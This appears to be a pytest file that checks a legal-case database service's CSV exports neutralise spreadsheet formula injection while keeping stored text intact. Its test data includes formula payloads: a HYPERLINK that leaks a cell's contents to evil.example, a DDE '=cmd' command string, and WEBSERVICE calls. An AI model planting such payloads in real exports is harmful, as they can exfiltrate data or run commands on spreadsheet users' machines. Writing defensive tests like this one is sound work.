"""CSV injection: text that a spreadsheet would run as a formula (`=HYPERLINK(...)`, `+`, `-`, `@`, or a
leading tab or carriage return) comes out of every CSV the service serves as inert text, and nothing
else changes: a reader who takes the one `'` off (tests.helpers.spreadsheet_text) has the stored text."""

import csv
import io
import json
from typing import Any

import httpx
from sqlalchemy.ext.asyncio import AsyncConnection

from app.auth.roles import Role
from tests.conftest import make_token
from tests.helpers import API, make_case, make_organization, make_person, make_source, post, spreadsheet_text

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")'


async def make_formula_world(client: httpx.AsyncClient) -> dict[str, str]:
    """One record of every kind whose every text field looks like a formula; kind -> id."""
    source = await make_source(client, title=LINK, publisher="+SUM(1,2)", note="\r=1+1", published_on="2015")
    person = await make_person(
        client, "=1+1", aliases=["@SUM(A1:A9)", "'already quoted", "-2+3"], description="\t=cmd|' /C calc'!A0"
    )
    organization = await make_organization(client, "-2+3", description="@SUM(1)")
    case = await make_case(client, "@SUM(A1)", summary='=HYPERLINK("x")', source_ids=[source["id"]])
    cid = case["id"]
    inside = {
        "participants": {"person_id": person["id"], "role": "defendant", "note": "+1"},
        "charges": {"description": "=A1", "statute": "-art. 164", "person_id": person["id"]},
        "sentences": {"person_id": person["id"], "note": "@here", "facility_id": organization["id"]},
        "hearings": {"kind": "trial", "date": "2015", "location": "=WEBSERVICE(1)", "summary": "-1"},
        "outcomes": {"kind": "convicted", "date": "2015", "summary": "+cmd"},
        "events": {
            "kind": "statement",
            "date": "2015-12-08",
            "title": LINK,
            "description": "\r\n=2",
            "quote": "-I have not committed any crimes",
            "person_ids": [person["id"]],
            "organization_ids": [organization["id"]],
        },
    }
    ids = {"sources": source["id"], "people": person["id"], "organizations": organization["id"], "cases": cid}
    for kind, body in inside.items():
        ids[kind] = (await post(client, f"/cases/{cid}/{kind}", body))["id"]
    return ids


async def csv_operations(client: httpx.AsyncClient) -> list[str]:
    """Every GET whose OpenAPI document says it can answer text/csv."""
    spec = (await client.get("/openapi.json")).json()
    paths = []
    for path, operations in spec["paths"].items():
        ok = operations.get("get", {}).get("responses", {}).get("200", {})
        if "text/csv" in ok.get("content", {}):
            paths.append(path)
            assert "running it as a formula" in json.dumps(ok), f"{path} does not document the CSV text rule"
    return paths


def fill(template: str, ids: dict[str, str]) -> str:
    # {case_id} is the formula case; {record_id} (history) the formula record of the kind in the path.
    kind = template.removeprefix(API + "/").split("/", 1)[0]
    return template.replace("{case_id}", ids["cases"]).replace("{record_id}", ids.get(kind, ""))


async def json_items(client: httpx.AsyncClient, path: str) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    cursor = None
    while True:
        params = {} if cursor is None else {"cursor": cursor}
        response = await client.get(path, params=params)
        assert response.status_code == 200, (path, response.text)
        body = response.json()
        items += body["items"]
        cursor = body.get("next")
        if cursor is None:
            return items


async def test_no_csv_cell_starts_a_formula_and_the_text_survives(connection: AsyncConnection, client_as: Any) -> None:
    # The token's name is each change's `actor` in the histories and the audit log.
    client = await client_as(await make_token(connection, Role.admin, name="=HYPERLINK(A1)"))
    ids = await make_formula_world(client)
    paths = await csv_operations(client)
    assert len(paths) >= 25  # every list, every history, the audit log, the timeline
    unguarded = []  # CSVs in which no cell needed defusing: the world must reach every one
    for template in paths:
        guarded = 0
        path = fill(template, ids)
        response = await client.get(path, params={"format": "csv"})
        assert response.status_code == 200, (path, response.text)
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.text, newline="")))
        header, cells = rows[0], rows[1:]
        for row in cells:
            for name, cell in zip(header, row, strict=True):
                assert not cell.startswith(FORMULA_STARTS), (template, name, cell)
        items = await json_items(client, path)
        assert len(items) == len(cells) > 0, template
        for row, item in zip(cells, items, strict=True):
            for name, cell in zip(header, row, strict=True):
                value = item[name]
                if isinstance(value, str):
                    assert spreadsheet_text(cell) == value, (template, name, cell, value)
                    guarded += cell != value
                elif isinstance(value, list | dict):  # JSON text, which starts with [ or {
                    assert json.loads(cell) == value, (template, name)
        if not guarded:
            unguarded.append(template)
    assert unguarded == []


async def test_dates_numbers_and_ordinary_text_are_not_touched(client: httpx.AsyncClient) -> None:
    case = await make_case(client, "Kozlov case")
    person = await make_person(client, "Aliya Turusbekova", aliases=["A. T."])
    await post(
        client,
        f"/cases/{case['id']}/sentences",
        {"person_id": person["id"], "term_months": 90, "parole_fraction": 0.5, "start_date": "2012-01-23?"},
    )
    response = await client.get(f"{API}/sentences", params={"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(response.text, newline=""))
    assert (row["term_months"], row["parole_fraction"], row["start_date"]) == ("90", "0.5", "2012-01-23?")
    assert row["start_date_earliest"] == "2012-01-23"
    response = await client.get(f"{API}/people", params={"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(response.text, newline=""))
    assert row["name"] == "Aliya Turusbekova" and json.loads(row["aliases"]) == ["A. T."]
    assert not any(cell.startswith("'") for cell in row.values())
